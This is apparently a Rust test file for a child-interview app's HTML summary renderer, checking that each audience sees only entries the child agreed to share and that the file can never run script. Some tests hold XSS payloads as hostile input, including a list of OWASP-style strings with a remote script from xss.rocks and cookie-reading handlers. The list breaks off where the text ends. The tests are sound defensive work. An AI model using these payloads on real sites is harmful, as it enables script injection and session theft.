//! The summary: which entries a reader sees, and the downloaded HTML file, which must show
//! every word exactly and can never run anything, whatever was typed on the tablet.

use hear_me::core::summary::{FullRecord, Reader};
use hear_me::core::summary_html::{is_png_data_url, Painters};
use hear_me::core::{
    render_summary_html, Audience, Decision, EntryId, Export, ExportKind, Helper, HelperColour,
    HelperKind, NewSession, Question, RespectLine, SavedPicture, Session, SessionId, SharedItem,
    Shown, Summary, SummaryChoices, SummaryContent, SummaryText, Tool, Voice, Words, WorkerReason,
};

mod common;

/// The English texts the UI fills from its translation file, for Mia's full record with the
/// dragon every session here chooses, and one entry not decided yet.
fn english() -> SummaryText {
    common::english::summary_text("Mia", HelperKind::Dragon, 1)
}

/// A valid PNG data URL (the PNG signature and a little more).
const PNG: &str = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE=";

fn with_png(_: Question, _: EntryId) -> Option<String> {
    Some(PNG.to_owned())
}

/// A time as the tests write it: the milliseconds, marked.
fn time(at_ms: u64) -> String {
    format!("t{at_ms}")
}

/// The file for a summary, with every drawing as a PNG.
fn render(summary: &Summary, text: &SummaryText) -> String {
    render_summary_html(
        summary,
        text,
        &Painters {
            picture: &with_png,
            earlier_picture: &|_, _, _| None,
            time: &time,
            day: &|at_ms| format!("day {at_ms}"),
        },
    )
}

/// The full record's own part of a summary.
fn full_record(summary: &Summary) -> &FullRecord {
    match &summary.reader {
        Reader::FullRecord(record) => record,
        Reader::ForAudience(_) => panic!("a summary for an audience"),
    }
}

fn mia() -> Session {
    let form = NewSession {
        child_name: "Mia".into(),
        age: "7".into(),
        worker_name: "Sam".into(),
        date: "2026-11-27".into(),
    };
    Session::start(&form, SessionId::new(1, 2), 1_000).unwrap()
}

fn words(text: &str, voice: Voice) -> Words {
    Words {
        text: text.into(),
        voice,
    }
}

/// The text of every entry a summary shows, house by house.
fn shown(summary: &Summary) -> Vec<(Question, Vec<String>)> {
    summary
        .questions
        .iter()
        .map(|house| {
            let entries = house
                .entries
                .iter()
                .map(|entry| match &entry.content {
                    SummaryContent::Words(words) => words.text.clone(),
                    SummaryContent::Drawing { entry, .. } => format!("drawing {}", entry.0),
                    SummaryContent::Unreadable => "unreadable".into(),
                })
                .collect();
            (house.question, entries)
        })
        .collect()
}

/// A session with one entry for each kind of decision:
/// worries: "private" (only my worker), "family" (shared with my family), a drawing for Mum;
/// good things: "mum and teacher", "undecided";
/// dreams: "oma" (a name the child gave), "everyone" (shared with all the pictured choices).
fn decided() -> Session {
    let mut session = mia();
    let add = |session: &mut Session, question, text: &str, decision, at| {
        let id = session.add_words(
            Tool::ThreeHouses,
            question,
            words(text, Voice::ChildWrote),
            at,
        );
        session.decide_sharing(question, id, decision, at + 1);
    };
    // Made in an order that is not the houses' order, as a child may choose.
    add(
        &mut session,
        Question::Dreams,
        "oma",
        Decision::shared_with([Audience::Named("Oma".into())]),
        2_000,
    );
    add(
        &mut session,
        Question::Worries,
        "private",
        Some(Decision::Private),
        3_000,
    );
    add(
        &mut session,
        Question::Worries,
        "family",
        Decision::shared_with([Audience::Family]),
        4_000,
    );
    let drawing = session.add_drawing(Tool::ThreeHouses, Question::Worries, 5_000);
    session.decide_sharing(
        Question::Worries,
        drawing,
        Decision::shared_with([Audience::Mum]),
        5_001,
    );
    add(
        &mut session,
        Question::GoodThings,
        "mum and teacher",
        Decision::shared_with([Audience::Teacher, Audience::Mum]),
        6_000,
    );
    add(&mut session, Question::GoodThings, "undecided", None, 7_000);
    add(
        &mut session,
        Question::Dreams,
        "everyone",
        Decision::shared_with(Audience::PICTURED),
        8_000,
    );
    session
}

// ---------------------------------------------------------------------------------------------
// The summary model

#[test]
fn the_full_record_shows_every_entry_in_the_order_made_house_by_house() {
    let summary = Summary::of(&decided(), None);
    assert_eq!(
        shown(&summary),
        [
            (
                Question::Worries,
                vec!["private".into(), "family".into(), "drawing 4".to_string()]
            ),
            (
                Question::GoodThings,
                vec!["mum and teacher".into(), "undecided".into()]
            ),
            (Question::Dreams, vec!["oma".into(), "everyone".into()]),
        ]
    );
    assert_eq!(full_record(&summary).undecided, 1);
    let worries = &summary.question(Question::Worries).unwrap().entries;
    assert_eq!(
        worries[0].sharing.as_ref().unwrap().decision,
        Some(Decision::Private)
    );
    assert!(worries
        .windows(2)
        .all(|pair| pair[0].created_at <= pair[1].created_at));
    assert_eq!(summary.child_name, "Mia");
    assert_eq!(summary.age, Some(7));
    assert_eq!(summary.worker.as_deref(), Some("Sam"));
    assert_eq!(summary.tools, [Tool::ThreeHouses]);
    assert!(summary.show_tools);
}

#[test]
fn an_audience_sees_only_what_the_child_shared_with_exactly_them() {
    let session = decided();
    let for_mum = Summary::of(&session, Some(&Audience::Mum));
    assert_eq!(
        shown(&for_mum),
        [
            (Question::Worries, vec!["drawing 4".to_string()]),
            (Question::GoodThings, vec!["mum and teacher".into()]),
            (Question::Dreams, vec!["everyone".into()]),
        ],
        "'my family' does not include Mum"
    );
    assert!(for_mum
        .questions
        .iter()
        .flat_map(|question| &question.entries)
        .all(|entry| entry.sharing.is_none()));

    let for_oma = Summary::of(&session, Some(&Audience::Named("Oma".into())));
    assert_eq!(
        shown(&for_oma),
        [
            (Question::Worries, vec![]),
            (Question::GoodThings, vec![]),
            (Question::Dreams, vec!["oma".to_string()]),
        ]
    );

    let for_family = Summary::of(&session, Some(&Audience::Family));
    assert_eq!(
        shown(&for_family)
            .into_iter()
            .flat_map(|(_, entries)| entries)
            .collect::<Vec<_>>(),
        ["family", "everyone"]
    );
    let for_court = Summary::of(&session, Some(&Audience::Court));
    assert_eq!(
        shown(&for_court)
            .into_iter()
            .flat_map(|(_, entries)| entries)
            .collect::<Vec<_>>(),
        ["everyone"]
    );
}

#[test]
fn nothing_is_shared_before_the_child_decides() {
    let mut session = mia();
    session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words("a", Voice::ChildWrote),
        2_000,
    );
    session.add_drawing(Tool::ThreeHouses, Question::Dreams, 2_100);
    for audience in Audience::PICTURED {
        let summary = Summary::of(&session, Some(&audience));
        assert!(summary
            .questions
            .iter()
            .all(|house| house.entries.is_empty()));
    }
    let full = Summary::of(&session, None);
    assert_eq!(full_record(&full).undecided, 2);
    assert!(full
        .questions
        .iter()
        .flat_map(|house| &house.entries)
        .all(|entry| entry.sharing.as_ref().unwrap().decision.is_none()));
}

#[test]
fn empty_houses_still_appear_for_every_reader() {
    let session = mia();
    for audience in [None, Some(Audience::Mum)] {
        let summary = Summary::of(&session, audience.as_ref());
        assert_eq!(
            summary
                .questions
                .iter()
                .map(|house| house.question)
                .collect::<Vec<_>>(),
            Question::ALL
        );
        let html = render(&summary, &english());
        for name in [
            "House of Worries",
            "House of Good Things",
            "House of Dreams",
        ] {
            assert!(
                html.contains(&format!("<h2 dir=\"auto\">{name}</h2>")),
                "{name}"
            );
        }
        let empty = match audience {
            None => english().empty_house,
            Some(_) => english().nothing_shared_here,
        };
        assert_eq!(html.matches(&reference_escape(&empty)).count(), 3);
    }
}

#[test]
fn the_header_and_notes_come_from_the_session() {
    let mut session = mia();
    session.set_place("Schule", 2_000);
    session.set_present("Mia, Oma", 2_000);
    session.set_reflection("Next: talk to Oma.", 2_000);
    session.rename(Tool::ThreeHouses, Question::Worries, "Sturmhaus", 2_000);
    let summary = Summary::of(&session, None);
    assert_eq!(
        (
            summary.place.as_deref(),
            summary.present.as_deref(),
            full_record(&summary).reflection.as_str(),
            summary.date.as_str()
        ),
        (
            Some("Schule"),
            Some("Mia, Oma"),
            "Next: talk to Oma.",
            "2026-11-27"
        )
    );
    assert_eq!(
        summary
            .question(Question::Worries)
            .unwrap()
            .own_name(Tool::ThreeHouses),
        Some("Sturmhaus")
    );
    assert_eq!(
        summary
            .question(Question::Dreams)
            .unwrap()
            .own_name(Tool::ThreeHouses),
        None
    );
}

// ---------------------------------------------------------------------------------------------
// What each audience may read, and what it must never read

/// A session with a secret in every place a summary could leak one: the worker's note for
/// Dad and reflection, the place and who was there, a house the child renamed without
/// deciding about the name, and one entry for each case of sharing.
fn secrets() -> Session {
    let mut session = mia();
    session.set_place("SECRET-PLACE", 2_000);
    session.set_present("SECRET-PRESENT", 2_000);
    session.set_reflection("SECRET-REFLECTION", 2_000);
    session.rename(Tool::ThreeHouses, Question::Worries, "SECRET-HOUSE", 2_000);
    session.add_named_audience("Oma", 2_000);
    let mut add = |text: &str, decision: Option<Decision>| {
        let id = session.add_words(
            Tool::ThreeHouses,
            Question::Worries,
            words(text, Voice::ChildSaidWorkerWrote),
            3_000,
        );
        session.decide_sharing(Question::Worries, id, decision, 3_001);
        SharedItem::Entry {
            question: Question::Worries,
            entry: id,
        }
    };
    add("SHARED-WITH-MUM", Decision::shared_with([Audience::Mum]));
    let held = add(
        "HELD-FROM-MUM",
        Decision::shared_with([Audience::Mum, Audience::Court]),
    );
    add("KEPT-PRIVATE", Some(Decision::Private));
    add("NOT-DECIDED", None);
    let passed = add("PASSED-TO-COURT", Some(Decision::Private));
    assert!(session.hold_back(
        held,
        Audience::Mum,
        WorkerReason::new("2026-11-28", "REASON-HOLD", "Sam").unwrap(),
        4_000,
    ));
    assert!(session.record_passed_on(
        passed,
        Audience::Court,
        WorkerReason::new("2026-11-28", "REASON-PASSED §8a", "Sam").unwrap(),
        4_001,
    ));
    session.set_summary_choices(
        SummaryChoices {
            note: "SECRET-NOTE".into(),
            ..SummaryChoices::default_for(&Audience::Dad)
        },
        4_002,
    );
    session.set_summary_choices(
        SummaryChoices {
            note: "NOTE-FOR-MUM".into(),
            ..SummaryChoices::default_for(&Audience::Mum)
        },
        4_003,
    );
    session
}

#[test]
fn every_audience_reads_only_what_the_child_agreed_and_the_worker_added_for_it() {
    let session = secrets();
    let oma = Audience::Named("Oma".into());
    let wish_private = reference_escape(&english().wish_private);
    // Strings only the worker's full record may hold.
    let worker_only = [
        "SECRET-REFLECTION",
        "SECRET-HOUSE",
        "KEPT-PRIVATE",
        "NOT-DECIDED",
        "PASSED-TO-COURT",
        "REASON-HOLD",
        "REASON-PASSED",
        "Held back by the worker",
        "Passed on without",
        &wish_private,
        "The child&#39;s wish",
        "Worker&#39;s reflection",
        "Given to",
    ];
    for audience in Audience::PICTURED.into_iter().chain([oma.clone()]) {
        let html = render(&Summary::of(&session, Some(&audience)), &english());
        let mut must = vec![];
        let mut must_not = worker_only.to_vec();
        // The entries: exactly what was shared with this audience and not held back.
        match audience {
            Audience::Mum => {
                must.extend(["SHARED-WITH-MUM", "NOTE-FOR-MUM"]);
                must_not.extend(["HELD-FROM-MUM", "SECRET-NOTE"]);
            }
            Audience::Court => {
                must.push("HELD-FROM-MUM");
                must_not.extend(["SHARED-WITH-MUM", "SECRET-NOTE", "NOTE-FOR-MUM"]);
            }
            Audience::Dad => {
                must.push("SECRET-NOTE");
                must_not.extend(["SHARED-WITH-MUM", "HELD-FROM-MUM", "NOTE-FOR-MUM"]);
            }
            _ => must_not.extend([
                "SHARED-WITH-MUM",
                "HELD-FROM-MUM",
                "SECRET-NOTE",
                "NOTE-FOR-MUM",
            ]),
        }
        // The facts of the conversation: by default only for the court and the meeting.
        let facts = [
            "SECRET-PLACE",
            "SECRET-PRESENT",
            "<dd dir=\"auto\">Sam</dd>",
        ];
        if matches!(audience, Audience::Court | Audience::Meeting) {
            must.extend(facts);
            must.push("<dd dir=\"auto\">Three Houses</dd>");
        } else {
            must_not.extend(facts);
            must_not.push("<dd dir=\"auto\">Three Houses</dd>");
        }
        for text in &must {
            assert!(html.contains(text), "{audience:?} must read {text}");
        }
        for text in &must_not {
            assert!(!html.contains(text), "{audience:?} must not read {text}");
        }
        // No count of what was left out: no digit outside the date, the age and the style.
        let visible = visible_text(&html)
            // The date as English writes it, in words.
            .replace("27 November 2026", "")
            .replace("&#39;", "'");
        let digits: String = visible.chars().filter(char::is_ascii_digit).collect();
        assert_eq!(digits, "7", "{audience:?}: only the age, {visible}");
        // The usual name stands where the child's own name was not agreed.
        assert!(html.contains("<h2 dir=\"auto\">House of Worries</h2>"));
    }

    // The full record holds everything, with the hold and the passing-on and their reasons.
    let html = render(&Summary::of(&session, None), &english());
    for text in worker_only
        .into_iter()
        .filter(|text| !["Given to"].contains(text))
        .chain([
            "SHARED-WITH-MUM",
            "HELD-FROM-MUM",
            "SECRET-PLACE",
            "SECRET-PRESENT",
            "Given to",
        ])
    {
        assert!(html.contains(text), "the full record holds {text}");
    }
    // The notes for an audience are for that audience only.
    for text in ["SECRET-NOTE", "NOTE-FOR-MUM"] {
        assert!(!html.contains(text), "the full record leaves out {text}");
    }
    assert!(html.contains("<dt>Held back by the worker from</dt>\n<dd dir=\"auto\">Mum</dd>"));
    assert!(html.contains(
        "<dt>Passed on without the child&#39;s agreement to</dt>\n<dd dir=\"auto\">The judge / the court</dd>"
    ));
    assert!(html.contains("<dd>The child has not been told yet.</dd>"));
    assert!(html.contains("class=\"full-record\""));
}

#[test]
fn the_worker_chooses_the_facts_a_summary_names_and_may_add_one_neutral_line() {
    let mut session = secrets();
    let choices = SummaryChoices {
        shown: Shown {
            place: true,
            worker: true,
            ..Shown::NOTHING
        },
        respect_line: Some(RespectLine::KeepForNow),
        ..session.summary_choices(&Audience::Mum)
    };
    session.set_summary_choices(choices, 5_000);
    let html = render(&Summary::of(&session, Some(&Audience::Mum)), &english());
    assert!(html.contains("SECRET-PLACE"));
    assert!(html.contains("<dd dir=\"auto\">Sam</dd>"));
    assert!(!html.contains("SECRET-PRESENT"));
    assert!(!html.contains("Three Houses"));
    assert!(html.contains(
        "<p class=\"respect\" dir=\"auto\">There are things <bdi>Mia</bdi> wanted to keep for now, and we respect that.</p>"
    ));
    // Dad's summary keeps its own choices.
    let for_dad = render(&Summary::of(&session, Some(&Audience::Dad)), &english());
    assert!(!for_dad.contains("SECRET-PLACE") && !for_dad.contains("we respect that"));
}

#[test]
fn the_childs_own_name_for_a_house_reaches_only_those_the_child_agreed_and_not_held_back() {
    let mut session = secrets();
    let name = SharedItem::Name {
        tool: Tool::ThreeHouses,
        question: Question::Worries,
    };
    assert!(session.decide(
        name,
        Decision::shared_with([Audience::Mum, Audience::Dad]),
        5_000
    ));
    assert!(session.hold_back(
        name,
        Audience::Dad,
        WorkerReason::new("2026-11-29", "the name points at Dad", "Sam").unwrap(),
        5_001
    ));
    let heading =
        "<h2 dir=\"auto\">SECRET-HOUSE</h2>\n<p class=\"usual-name\">House of Worries</p>";
    assert!(render(&Summary::of(&session, Some(&Audience::Mum)), &english()).contains(heading));
    for audience in [Audience::Dad, Audience::Court, Audience::Family] {
        let html = render(&Summary::of(&session, Some(&audience)), &english());
        assert!(!html.contains("SECRET-HOUSE"), "{audience:?}");
    }
    // A new name starts undecided again: the child agreed to share the old one.
    session.rename(Tool::ThreeHouses, Question::Worries, "NEW-NAME", 6_000);
    let for_mum = render(&Summary::of(&session, Some(&Audience::Mum)), &english());
    assert!(!for_mum.contains("NEW-NAME") && !for_mum.contains("SECRET-HOUSE"));
    let full = render(&Summary::of(&session, None), &english());
    assert!(full.contains("NEW-NAME"));
    assert!(full.contains("the name points at Dad"));
}

#[test]
fn every_printed_page_says_whose_it_is_and_who_it_is_for() {
    let session = secrets();
    let mut text = english();
    text.page_line = "Mia · Summary for: \"Oma\" </style>".into();
    let html = render(&Summary::of(&session, Some(&Audience::Mum)), &text);
    assert!(html.contains(
        "@top-left { content: \"Mia · Summary for: \\22 Oma\\22  \\3C \\2F style\\3E \";"
    ));
    assert!(html.contains("counter(page)"));
    assert_eq!(html.matches("</style>").count(), 1);
    assert!(html.contains("<body class=\"for-audience\">"));
}

#[test]
fn the_summary_writes_days_as_its_language_does() {
    // The session with a hold and a passing-on, each with its day.
    let session = secrets();
    let mut text = english();
    for (lang, written) in [
        ("en", "27 November 2026"),
        ("de", "27. November 2026"),
        ("ar", "27 نوفمبر 2026"),
    ] {
        text.lang = lang.into();
        let html = render(&Summary::of(&session, None), &text);
        assert!(html.contains(written), "{lang}: {written}");
        assert!(!visible_text(&html).contains("2026-11-27"), "{lang}");
        // The days of the worker's decisions too.
        assert!(
            html.contains(&written.replace("27", "28")),
            "{lang}: the hold's day"
        );
    }
}

#[test]
fn a_summary_in_a_right_to_left_language_reads_right_to_left() {
    let mut session = decided();
    session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words("أريد أن أعيش مع جدتي", Voice::ChildWrote),
        2_000,
    );
    let mut text = english();
    for (lang, dir) in [
        ("ar", "rtl"),
        ("fa-AF", "rtl"),
        ("de", "ltr"),
        ("en", "ltr"),
    ] {
        text.lang = lang.into();
        let html = render(&Summary::of(&session, None), &text);
        assert!(
            html.starts_with(&format!(
                "<!DOCTYPE html>\n<html lang=\"{lang}\" dir=\"{dir}\">\n"
            )),
            "{lang}"
        );
        // The page's own line goes where reading starts, its number where it ends.
        let (start, end) = if dir == "rtl" {
            ("right", "left")
        } else {
            ("left", "right")
        };
        assert!(html.contains(&format!("@top-{start} {{")), "{lang}");
        assert!(html.contains(&format!("@bottom-{end} {{")), "{lang}");
        // Sides are start and end, never left or right, so the layout mirrors.
        let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
        for physical in [
            "-left:",
            "-right:",
            "float: left",
            "float: right",
            "text-align: left",
            "text-align: right",
        ] {
            assert!(!style.contains(physical), "{physical}");
        }
    }
}

#[test]
fn mixed_labels_and_words_each_keep_their_own_direction() {
    // German labels, the child's Arabic words: each quote finds its direction by itself,
    // paragraph by paragraph, whatever the file's language.
    let mut session = mia();
    session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words("أريد أن أعيش مع جدتي\nund Oma", Voice::ChildWrote),
        2_000,
    );
    let mut text = english();
    text.lang = "de".into();
    let html = render(&Summary::of(&session, None), &text);
    assert!(html.contains(
        "<blockquote class=\"child-words\" dir=\"auto\">أريد أن أعيش مع جدتي\nund Oma</blockquote>"
    ));
    assert!(html.contains("unicode-bidi: plaintext"));
    assert!(html.contains("<html lang=\"de\" dir=\"ltr\">"));
}

#[test]
fn the_full_record_lists_what_left_the_tablet() {
    let mut session = secrets();
    session.record_export(Export {
        at_ms: 7_000,
        audience: Some(Audience::Mum),
        kind: ExportKind::Downloaded,
        file_name: "hear-me-summary-Mia-2026-11-27-for-mum.html".into(),
        confirmed_worries: Vec::new(),
        picture: None,
    });
    session.record_export(Export {
        at_ms: 8_000,
        audience: None,
        kind: ExportKind::Printed,
        file_name: "hear-me-summary-Mia-2026-11-27-full-record.html".into(),
        confirmed_worries: Vec::new(),
        picture: None,
    });
    // "Save picture" is a file that left too.
    session.record_export(Export {
        at_ms: 9_000,
        audience: None,
        kind: ExportKind::Downloaded,
        file_name: "hear-me-2026-11-27-worries-1.png".into(),
        confirmed_worries: Vec::new(),
        picture: Some(SavedPicture {
            question: Question::Worries,
            entry: EntryId(1),
        }),
    });
    let html = render(&Summary::of(&session, None), &english());
    assert_in_order(
        &html,
        &[
            "<h2 dir=\"auto\">Given to</h2>",
            "<li><bdi>Mum</bdi> — downloaded t7000 · <bdi>hear-me-summary-Mia-2026-11-27-for-mum.html</bdi></li>",
            "<li><bdi>The full record</bdi> — printed t8000 · <bdi>hear-me-summary-Mia-2026-11-27-full-record.html</bdi></li>",
            "<li><bdi>A drawing, as a picture</bdi> — downloaded t9000 · <bdi>hear-me-2026-11-27-worries-1.png</bdi></li>",
        ],
    );
    let for_mum = render(&Summary::of(&session, Some(&Audience::Mum)), &english());
    assert!(!for_mum.contains("downloaded") && !for_mum.contains("hear-me-summary"));
    assert!(!for_mum.contains("hear-me-2026"));
}

// ---------------------------------------------------------------------------------------------
// The HTML file

#[test]
fn the_file_is_one_complete_document_without_script_or_outside_urls() {
    let mut session = decided();
    session.set_reflection("Calm.", 9_000);
    let html = render(&Summary::of(&session, None), &english());
    assert!(html.starts_with(
        "<!DOCTYPE html>\n<html lang=\"en\" dir=\"ltr\">\n<head>\n<meta charset=\"utf-8\">"
    ));
    assert!(html.contains(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; style-src 'unsafe-inline'\">"
    ));
    assert!(html.contains("<style>") && html.contains("@page"));
    assert!(html.contains("break-inside: avoid"));
    assert!(html.contains("white-space: pre-wrap"));
    assert!(html.trim_end().ends_with("</html>"));
    let lower = html.to_lowercase();
    for forbidden in [
        "<script", "http:", "https:", "//", "url(", "@import", "<link",
    ] {
        assert!(!lower.contains(forbidden), "{forbidden}");
    }
    assert_tags_are_only_ours(&html);
    assert!(html.contains(&format!(
        "<img src=\"{PNG}\" alt=\"{}\">",
        reference_escape(&english().drawing_alt)
    )));
}

#[test]
fn the_full_record_marks_who_said_and_wrote_and_each_decision() {
    let mut session = decided();
    session.add_words(
        Tool::ThreeHouses,
        Question::Dreams,
        words("said", Voice::ChildSaidWorkerWrote),
        9_000,
    );
    let html = render(&Summary::of(&session, None), &english());
    assert_eq!(html.matches("<p class=\"who\">Child wrote</p>").count(), 6);
    assert_eq!(
        html.matches("<p class=\"who\">Child said, worker wrote</p>")
            .count(),
        1
    );
    assert!(html.contains("<figcaption class=\"who\">Child drew</figcaption>"));
    assert!(html.contains(&format!(
        "<p class=\"decision\">The child&#39;s wish: {}</p>",
        reference_escape(&english().wish_private)
    )));
    assert!(html.contains("<p class=\"decision\">The child&#39;s wish: <bdi>My family</bdi></p>"));
    assert!(html.contains(
        "<p class=\"decision\">The child&#39;s wish: <bdi>Mum</bdi>, <bdi>My teacher</bdi></p>"
    ));
    assert!(html.contains("<p class=\"decision\">The child&#39;s wish: <bdi>Oma</bdi></p>"));
    assert_eq!(
        html.matches(
            "<p class=\"decision decision-none\">The child&#39;s wish: No decision yet</p>"
        )
        .count(),
        2
    );
    assert!(html.contains(&reference_escape(&english().undecided_line)));
    // When each entry was made, in the reader's time.
    assert!(html.contains("<p class=\"made\">Made: t3000</p>"));
    // The order made, within each house, and the houses in their fixed order.
    assert_in_order(
        &html,
        &[
            "House of Worries",
            ">private<",
            ">family<",
            "Child drew",
            "House of Good Things",
            ">mum and teacher<",
            ">undecided<",
            "House of Dreams",
            ">oma<",
            ">everyone<",
            ">said<",
            &reference_escape(&english().sharing_heading),
            "Worker&#39;s reflection",
            "Given to",
            "Nothing has left the tablet yet.",
        ],
    );
}

#[test]
fn a_summary_for_mum_leaves_out_the_rest_and_never_counts_it() {
    let session = decided();
    let mut text = english();
    text.audience_line = "Summary for: Mum".into();
    let html = render(&Summary::of(&session, Some(&Audience::Mum)), &text);
    assert!(html.contains("Summary for: Mum"));
    for hidden in [">private<", ">family<", ">undecided<", ">oma<"] {
        assert!(!html.contains(hidden), "{hidden} is left out");
    }
    for seen in [">mum and teacher<", ">everyone<", PNG] {
        assert!(html.contains(seen), "{seen} is shown");
    }
    // No count, and no hint, of what was left out or why.
    let (sharing_heading, wish_private) = (english().sharing_heading, english().wish_private);
    for never in [
        sharing_heading.as_str(),
        "no decision yet",
        "No decision yet",
        &reference_escape(&wish_private),
        "wish",
        "Made:",
        "Given to",
        "reflection",
    ] {
        assert!(!html.contains(never), "{never}");
    }
    // Who else may see an entry is not Mum's to read.
    assert!(!html.contains("class=\"decision"));
    assert!(!html.contains("My teacher"));
}

#[test]
fn the_full_record_needs_no_sharing_lines_when_all_is_decided() {
    let mut session = mia();
    let id = session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words("x", Voice::ChildWrote),
        2_000,
    );
    session.decide_sharing(
        Question::Worries,
        id,
        Decision::shared_with([Audience::Dad]),
        2_001,
    );
    let full = render(&Summary::of(&session, None), &english());
    assert!(!full.contains(&reference_escape(&english().sharing_heading)));
}

#[test]
fn the_childs_words_are_kept_exactly_and_in_any_script() {
    let texts = [
        "  two  spaces inside and around  ",
        "line one\nline two\n\n\ttabbed",
        "Ich hab Angst 😢 👨‍👩‍👧",
        "أريد أن أعيش مع جدتي",
        "J'ai peur, ça fait mal",
        "Eu tenho medo — e tu?",
        "ZWJ\u{200D}and\u{00A0}nbsp",
    ];
    let mut session = mia();
    for text in texts {
        session.add_words(
            Tool::ThreeHouses,
            Question::Dreams,
            words(text, Voice::ChildWrote),
            2_000,
        );
    }
    let html = render(&Summary::of(&session, None), &english());
    for text in texts {
        let expected = format!(
            "<blockquote class=\"child-words\" dir=\"auto\">{}</blockquote>",
            reference_escape(text)
        );
        assert!(html.contains(&expected), "{text:?}");
    }
    assert!(html.contains(".child-words {") && html.contains("white-space: pre-wrap"));
}

#[test]
fn the_childs_own_house_name_leads_and_the_usual_name_follows() {
    let mut session = mia();
    session.rename(Tool::ThreeHouses, Question::Worries, "Sturmhaus ⛈", 2_000);
    let html = render(&Summary::of(&session, None), &english());
    assert!(html.contains(
        "<h2 dir=\"auto\">Sturmhaus ⛈</h2>\n<p class=\"usual-name\">House of Worries</p>"
    ));
    assert!(html.contains("<h2 dir=\"auto\">House of Dreams</h2>"));
}

#[test]
fn only_png_data_urls_become_pictures() {
    let mut session = mia();
    session.add_drawing(Tool::ThreeHouses, Question::Worries, 2_000);
    let refused = [
        None,
        Some(""),
        Some("data:image/png;base64,"),
        Some("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"),
        Some("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
        Some("javascript:alert(1)"),
        Some("https://example.org/x.png"),
        Some("//example.org/x.png"),
        Some("data:image/png;base64,iVBO\" onerror=\"alert(1)"),
        Some("data:image/png;base64,iVBORw0KGgo=\"><script>alert(1)</script>"),
        Some("data:image/png;base64,iVBO%3Cscript%3E"),
        Some("data:image/png;base64,iVBORw0KGgo= "),
        Some("data:image/png;charset=utf-8;base64,iVBORw0KGgo="),
        Some("data:image/png,iVBORw0KGgo="),
    ];
    for picture in refused {
        let pictures = move |_: Question, _: EntryId| picture.map(str::to_owned);
        let html = render_summary_html(
            &Summary::of(&session, None),
            &english(),
            &Painters {
                picture: &pictures,
                earlier_picture: &|_, _, _| None,
                time: &time,
                day: &|at_ms| format!("day {at_ms}"),
            },
        );
        assert!(!html.contains("<img"), "{picture:?}");
        assert!(
            html.contains(&format!(
                "<p class=\"missing\">{}</p>",
                reference_escape(&english().picture_missing)
            )),
            "{picture:?}"
        );
        assert_tags_are_only_ours(&html);
        assert!(!is_png_data_url(picture.unwrap_or_default()));
    }
    let html = render(&Summary::of(&session, None), &english());
    assert!(html.contains(&format!("<img src=\"{PNG}\"")));
    assert!(!html.contains("class=\"missing\""));
}

#[test]
fn pictures_are_asked_for_by_house_and_entry() {
    let session = decided();
    let asked = std::cell::RefCell::new(Vec::new());
    let pictures = |question: Question, entry: EntryId| {
        asked.borrow_mut().push((question, entry));
        Some(PNG.to_owned())
    };
    let painters = Painters {
        picture: &pictures,
        earlier_picture: &|_, _, _| None,
        time: &time,
        day: &|at_ms| format!("day {at_ms}"),
    };
    render_summary_html(&Summary::of(&session, None), &english(), &painters);
    assert_eq!(*asked.borrow(), [(Question::Worries, EntryId(4))]);
    asked.borrow_mut().clear();
    render_summary_html(
        &Summary::of(&session, Some(&Audience::Family)),
        &english(),
        &painters,
    );
    assert!(
        asked.borrow().is_empty(),
        "a drawing left out is not even painted"
    );
}

#[test]
fn the_renderer_holds_no_words_of_its_own() {
    // Session text without letters, and no labels: whatever letters are left would be
    // English hard-coded in the renderer.
    let mut session = mia();
    session.child.name = "①".into();
    session.worker = "②".into();
    session.set_place("③", 2_000);
    session.set_present("④", 2_000);
    session.set_reflection("⑤", 2_000);
    let id = session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words("⑥", Voice::ChildWrote),
        2_000,
    );
    session.add_words(
        Tool::ThreeHouses,
        Question::Worries,
        words("⑦", Voice::ChildSaidWorkerWrote),
        2_000,
    );
    session.add_drawing(Tool::ThreeHouses, Question::Dreams, 2_000);
    session.decide_sharing(
        Question::Worries,
        id,
        Decision::shared_with([Audience::Mum, Audience::Named("⑧".into())]),
        2_001,
    );
    for audience in [None, Some(Audience::Mum)] {
        let html = render_summary_html(
            &Summary::of(&session, audience.as_ref()),
            &SummaryText::default(),
            &Painters {
                picture: &|_, _| None,
                earlier_picture: &|_, _, _| None,
                time: &|_| "⑨".into(),
                day: &|at_ms| format!("day {at_ms}"),
            },
        );
        let visible = visible_text(&html);
        assert!(
            !visible.chars().any(|c| c.is_alphabetic()),
            "{audience:?}: {visible:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Hostile text

/// Text that tries to become markup or script, in the spirit of the OWASP XSS filter evasion
/// cheat sheet, and a few of its newer relatives.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "javascript:alert('XSS')",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
